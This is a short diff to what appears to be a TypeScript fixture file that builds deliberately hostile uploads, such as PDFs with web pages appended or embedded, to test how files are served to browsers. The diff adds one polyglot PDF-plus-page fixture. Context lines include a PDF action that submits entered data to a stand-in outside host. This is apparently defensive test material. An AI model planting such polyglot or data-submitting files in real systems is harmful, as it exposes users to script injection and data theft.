@@ -1,5 +1,6 @@
 import { crc32, deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
+import { pageOf } from '../world/one-page.ts'
 
 /** A file as somebody sends it who wants it to run in another's browser. */
 export type HostileFile = { what: string; name: string; bytes: Buffer }
@@ -104,6 +105,7 @@ async function doubleFaced(): Promise<Record<string, Buffer>> {
     'a PDF that sends what is entered': pdf(
       `1 0 obj<</Type/Catalog/AA<</WC<</S/SubmitForm/F(https://elsewhere.example)>>>>>>endobj`,
     ),
+    'a whole PDF with a web page behind it': Buffer.concat([pageOf('Signed'), page]),
     'a PDF with a page behind it': Buffer.concat([pdf('1 0 obj<</Type/Catalog>>endobj'), page]),
     'a PDF with a page in a stream': pdf(
       `1 0 obj<</Type/Catalog>>endobj 2 0 obj<</Length ${page.length}>>stream\n${TAG}\nendstream endobj`,
